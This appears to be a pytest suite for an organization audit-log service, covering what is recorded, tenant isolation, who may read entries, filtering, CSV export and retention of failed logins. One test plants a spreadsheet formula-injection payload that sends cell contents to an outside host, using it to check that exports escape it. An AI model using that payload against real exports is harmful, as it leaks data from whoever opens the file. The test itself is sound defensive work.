from __future__ import annotations

import asyncio
import csv
import io
import uuid

import grpc
import psycopg
import pytest

from services.auth.audit import actions, servicer
from services.kit.tenant import within
from tests.auth.world import PASSWORD, member, role_of
from tests.serving import invalid, refused
from turnout.auth.v1 import audit_pb2, audit_pb2_grpc, auth_pb2, organization_pb2

pytestmark = pytest.mark.server

DONE, REFUSED = audit_pb2.AuditEntry.RESULT_DONE, audit_pb2.AuditEntry.RESULT_REFUSED


def said(entries):
    """What entries say of who did what to what."""
    words = audit_pb2.AuditEntry.Action.Name
    return [(one.actor, words(one.action).removeprefix("ACTION_"), one.target) for one in entries]


async def reassign(world, by, name, role):
    request = organization_pb2.UpdateMemberRequest(
        member=organization_pb2.Member(name=name, role=role_of(role))
    )
    await world.organizations.UpdateMember(request, metadata=by.metadata)


async def remove(world, by, name):
    request = organization_pb2.DeleteMemberRequest(name=name)
    await world.organizations.DeleteMember(request, metadata=by.metadata)


async def exported(world, by, organization, filter="", stub=None):
    request = audit_pb2.ExportAuditEntriesRequest(parent=organization, filter=filter)
    call = (stub or world.audit).ExportAuditEntries(request, metadata=by.metadata)
    parts = [part async for part in call]
    assert {part.content_type for part in parts} == {"text/csv; charset=utf-8"}
    text = b"".join(part.data for part in parts).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- what is recorded


async def test_every_change_of_rights_is_recorded(world, ada, club):
    bob = await world.join(club, ada, "STAFF")
    name = member(club, bob)
    await reassign(world, ada, name, "ORGANIZER")
    await remove(world, ada, name)

    entries = await world.log(club, ada)

    assert said(entries) == [
        (ada.name, "ORGANIZATION_CREATE", club),
        (ada.name, "MEMBER_CREATE", member(club, ada)),
        (ada.name, "MEMBER_CREATE", name),
        (ada.name, "MEMBER_UPDATE", name),
        (ada.name, "MEMBER_DELETE", name),
    ]
    assert [dict(one.details) for one in entries[1:]] == [
        {"role": "OWNER"},
        {"role": "STAFF"},
        {"role": "ORGANIZER", "previous_role": "STAFF"},
        {"role": "ORGANIZER"},
    ]
    assert {one.result for one in entries} == {DONE}
    assert {one.ip_address for one in entries} == {"127.0.0.1"}
    assert all("grpc" in one.user_agent for one in entries)
    assert all(one.HasField("create_time") and one.etag == '"1"' for one in entries)


async def test_what_an_organization_is_called_is_recorded_without_what_it_was(world, ada, club):
    await world.organizations.UpdateOrganization(
        organization_pb2.UpdateOrganizationRequest(
            organization=organization_pb2.Organization(name=club, display_name="Elsewhere")
        ),
        metadata=ada.metadata,
    )

    [entry] = await world.log(club, ada, "action = ORGANIZATION_UPDATE")

    assert dict(entry.details) == {"fields": "display_name"}


async def test_what_was_refused_is_recorded_with_the_reason(world, ada, club):
    admin = await world.join(club, ada, "ADMIN")

    with refused(grpc.StatusCode.PERMISSION_DENIED, "OWNERS_ONLY"):
        await reassign(world, admin, member(club, admin), "OWNER")
    with refused(grpc.StatusCode.FAILED_PRECONDITION, "LAST_OWNER"):
        await remove(world, ada, member(club, ada))

    first, second = await world.log(club, ada, "result = REFUSED")
    assert said([first, second]) == [
        (admin.name, "MEMBER_UPDATE", member(club, admin)),
        (ada.name, "MEMBER_DELETE", member(club, ada)),
    ]
    assert [first.reason, second.reason] == ["OWNERS_ONLY", "LAST_OWNER"]
    assert {first.result, second.result} == {REFUSED}


async def test_who_comes_to_nothing_leaves_no_trace(world, ada, bob, club):
    """A stranger, of whom there are many, cannot fill the log of an organization."""
    with refused(grpc.StatusCode.PERMISSION_DENIED, "NOT_PERMITTED"):
        await remove(world, bob, member(club, ada))

    assert await world.log(club, ada, f'actor = "{bob.name}"') == []


async def test_logins_of_members_are_recorded_and_those_that_fail(world, ada, club):
    bob = await world.join(club, ada, "STAFF")

    again = await world.log_in(bob.user.email)
    with refused(grpc.StatusCode.UNAUTHENTICATED, "BAD_CREDENTIALS"):
        await world.log_in(bob.user.email, "not the password")

    # Not the first login, when Bob was no member yet.
    done, failed = await world.log(club, ada, "action = LOGIN")
    assert said([done, failed]) == [
        (bob.name, "LOGIN", bob.name),
        ("", "LOGIN", bob.name),
    ]
    assert dict(done.details) == {"session": again.session}
    assert (failed.result, failed.reason) == (REFUSED, "BAD_CREDENTIALS")
    assert failed.ip_address == "127.0.0.1"


async def test_a_login_to_no_account_is_recorded_without_the_address(world):
    with refused(grpc.StatusCode.UNAUTHENTICATED, "BAD_CREDENTIALS"):
        await world.log_in(f"{uuid.uuid4()}@example.org")

    rows = await world.owner.execute(
        'select target, "user", details from audit_entries'
        " where action = 'LOGIN' order by create_time desc limit 1"
    )
    [row] = await rows.fetchall()
    assert (row.target, row.user, row.details) == ("", None, {})


async def test_what_members_do_with_their_accounts_is_recorded(world, ada, club):
    bob = await world.join(club, ada, "STAFF")
    other = await world.log_in(bob.user.email)

    async def change(old):
        request = auth_pb2.ChangePasswordRequest(
            name=bob.name, old_password=old, new_password="staple battery horse correct"
        )
        await world.accounts.ChangePassword(request, metadata=bob.metadata)

    with invalid("old_password"):
        await change("not the password")
    await change(PASSWORD)
    logout = auth_pb2.LogoutRequest(refresh_token=bob.session.refresh_token)
    await world.accounts.Logout(logout)

    entries = await world.log(club, ada, f'actor = "{bob.name}"')
    assert said(entries) == [
        (bob.name, "LOGIN", bob.name),
        (bob.name, "PASSWORD_CHANGE", bob.name),
        (bob.name, "PASSWORD_CHANGE", bob.name),
        (bob.name, "SESSION_REVOKE", other.session),
        (bob.name, "SESSION_REVOKE", bob.session.session),
    ]
    assert [one.reason for one in entries] == ["", "WRONG_PASSWORD", "", "", ""]


async def test_a_stolen_refresh_token_is_recorded_as_nobodys_doing(world, ada, club):
    stolen = ada.session.refresh_token
    after = await world.refresh(stolen)
    await world.refresh(after.refresh_token)
    with refused(grpc.StatusCode.UNAUTHENTICATED, "SESSION_ENDED"):
        await world.refresh(stolen)

    [entry] = await world.log(club, ada, f'target = "{ada.session.session}"')
    assert said([entry]) == [("", "SESSION_REVOKE", ada.session.session)]


async def test_of_a_deleted_account_the_log_keeps_a_name_and_not_the_place(world, ada, club):
    bob = await world.join(club, ada, "ADMIN")
    gone = await world.join(club, ada, "STAFF")
    await reassign(world, bob, member(club, gone), "VIEWER")
    await world.accounts.DeleteUser(
        auth_pb2.DeleteUserRequest(name=bob.name), metadata=bob.metadata
    )

    update, left = await world.log(club, ada, f'actor = "{bob.name}"')
    assert said([update, left]) == [
        (bob.name, "MEMBER_UPDATE", member(club, gone)),
        (bob.name, "MEMBER_DELETE", member(club, bob)),
    ]
    assert {(one.ip_address, one.user_agent) for one in (update, left)} == {("", "")}
    rows = await world.owner.execute('select from audit_origins where "user" = %s', [bob.id])
    assert await rows.fetchall() == []


# --- who can do what with it


@pytest.mark.parametrize("table", ["audit_entries", "audit_origins"])
@pytest.mark.parametrize("statement", ["update {} set {}", "delete from {}", "truncate {}"])
async def test_the_service_can_neither_change_nor_remove_an_entry(
    world, ada, club, table, statement
):
    column = {"audit_entries": "reason = ''", "audit_origins": "address = ''"}[table]

    with within(uuid.UUID(club.partition("/")[2])):
        async with world.db.pool.connection() as connection:
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                await connection.execute(statement.format(table, column))


async def test_another_organization_sees_nothing(world, ada, bob, club):
    other = await world.organization(bob)
    [entry, *_] = await world.log(club, ada)
    name = f"{other}/auditEntries/{entry.name.rpartition('/')[2]}"

    async def look(tx):
        rows = await tx.connection.execute('select organization, "user" from audit_entries')
        origins = await tx.connection.execute('select "user" from audit_origins')
        return await rows.fetchall(), await origins.fetchall()

    with within(uuid.UUID(other.partition("/")[2])):
        rows, origins = await world.db.read(look)

    assert {str(row.organization) for row in rows} == {other.partition("/")[2]}
    assert {row.user for row in (*rows, *origins)} == {bob.id}
    with refused(grpc.StatusCode.NOT_FOUND, "AUDIT_ENTRY_NOT_FOUND", entry=name):
        await world.audit.GetAuditEntry(
            audit_pb2.GetAuditEntryRequest(name=name), metadata=bob.metadata
        )
    with refused(grpc.StatusCode.PERMISSION_DENIED, "NOT_PERMITTED", permission="AUDIT_READ"):
        await world.log(club, bob)


@pytest.mark.parametrize("role", ["ORGANIZER", "FINANCE", "STAFF", "VIEWER"])
async def test_only_owners_and_admins_may_read_it(world, ada, club, role):
    someone, admin = await asyncio.gather(
        world.join(club, ada, role), world.join(club, ada, "ADMIN")
    )

    assert await world.log(club, admin)
    with refused(grpc.StatusCode.PERMISSION_DENIED, "NOT_PERMITTED", permission="AUDIT_READ"):
        await world.log(club, someone)
    with refused(grpc.StatusCode.PERMISSION_DENIED, "NOT_PERMITTED", permission="AUDIT_READ"):
        await exported(world, someone, club)


# --- reading it


async def test_an_entry_is_read_by_its_name(world, ada, club):
    [first, *_] = await world.log(club, ada)

    request = audit_pb2.GetAuditEntryRequest(name=first.name)

    assert await world.audit.GetAuditEntry(request, metadata=ada.metadata) == first


async def test_pages_go_on_where_the_last_one_ended(world, ada, club):
    await asyncio.gather(*(world.join(club, ada, "VIEWER") for _ in range(3)))
    whole = [one.name for one in reversed(await world.log(club, ada))]
    found, token = [], ""

    for _ in range(3):
        request = audit_pb2.ListAuditEntriesRequest(parent=club, page_size=2, page_token=token)
        listed = await world.audit.ListAuditEntries(request, metadata=ada.metadata)
        found += [one.name for one in listed.audit_entries]
        token = listed.next_page_token

    assert (found, token) == (whole, "")


async def test_a_filter_picks_by_actor_action_target_result_and_time(world, ada, club):
    bob = await world.join(club, ada, "STAFF")
    middle = (await world.log(club, ada))[-1].create_time.ToJsonString()

    async def count(filter):
        return len(await world.log(club, ada, filter))

    assert await count(f'actor = "{ada.name}"') == 3
    assert await count(f'actor = "{ada.name}" AND action = ACTION_MEMBER_CREATE') == 2
    assert await count(f'target = "{member(club, bob)}" result = RESULT_DONE') == 1
    assert await count(f'create_time < "{middle}"') == 2
    assert await count(f'create_time >= "{middle}" AND result = DONE') == 1
    assert await count("result = REFUSED") == 0


@pytest.mark.parametrize(
    "filter",
    [
        "who = me",
        "action = DANCE",
        "result = MAYBE",
        "create_time >= soon",
        "action",
        "action != LOGIN",
    ],
)
async def test_what_is_no_filter_is_pointed_at(world, ada, club, filter):
    with invalid("filter"):
        await world.log(club, ada, filter)
    with invalid("filter"):
        await exported(world, ada, club, filter)


async def test_a_page_of_another_filter_is_refused(world, ada, club):
    request = audit_pb2.ListAuditEntriesRequest(parent=club, page_size=1)
    listed = await world.audit.ListAuditEntries(request, metadata=ada.metadata)
    request.page_token, request.filter = listed.next_page_token, "result = DONE"

    with invalid("page_token"):
        await world.audit.ListAuditEntries(request, metadata=ada.metadata)


# --- CSV


async def test_an_export_has_all_of_it_however_much_that_is(world, ada, club, monkeypatch):
    monkeypatch.setattr(servicer, "BATCH", 2)
    await asyncio.gather(*(world.join(club, ada, "VIEWER") for _ in range(4)))

    rows = await exported(world, ada, club)

    entries = list(reversed(await world.log(club, ada)))
    assert [row["name"] for row in rows] == [one.name for one in entries]
    assert rows[-1] == {
        "create_time": entries[-1].create_time.ToDatetime().isoformat() + "Z",
        "actor": ada.name,
        "action": "ORGANIZATION_CREATE",
        "target": club,
        "result": "DONE",
        "reason": "",
        "ip_address": "127.0.0.1",
        "user_agent": entries[-1].user_agent,
        "details": "",
        "name": entries[-1].name,
    }


async def test_an_export_can_be_filtered(world, ada, club):
    assert len(await exported(world, ada, club, "action = MEMBER_CREATE")) == 1


async def test_no_device_puts_a_formula_into_an_export(world, ada):
    evil = '=HYPERLINK("http://example.org/?"&A1)'
    options = [("grpc.primary_user_agent", evil)]
    async with grpc.aio.insecure_channel(world.address, options=options) as channel:
        stub = audit_pb2_grpc.AuditServiceStub(channel)
        world.organizations, usual = type(world.organizations)(channel), world.organizations
        club = await world.organization(ada)
        world.organizations = usual
        rows = await exported(world, ada, club, stub=stub)

    assert rows
    assert all(row["user_agent"].startswith(f"'{evil}") for row in rows)


async def test_failed_logins_are_forgotten_after_90_days_and_nothing_else_is(world, ada, club):
    for _ in range(2):
        with refused(grpc.StatusCode.UNAUTHENTICATED, "BAD_CREDENTIALS"):
            await world.accounts.Login(
                auth_pb2.LoginRequest(email=ada.user.email, password="wrong one")
            )
    rows = await world.owner.execute(
        'select id, action, reason from audit_entries where "user" = %s order by create_time',
        [ada.id],
    )
    *others, old, young = await rows.fetchall()
    long_ago = "update audit_entries set create_time = now() - %s * interval '1 day' where id = %s"
    await world.owner.execute(long_ago, [89, young.id])
    for each in (*others, old):
        await world.owner.execute(long_ago, [91, each.id])

    await actions.forget_failures(world.db)

    rows = await world.owner.execute('select id from audit_entries where "user" = %s', [ada.id])
    kept = {row.id for row in await rows.fetchall()}
    assert (old.reason, young.reason) == ("BAD_CREDENTIALS", "BAD_CREDENTIALS")
    assert kept == {each.id for each in (*others, young)}
    rows = await world.owner.execute("select entry from audit_origins")
    assert old.id not in {row.entry for row in await rows.fetchall()}
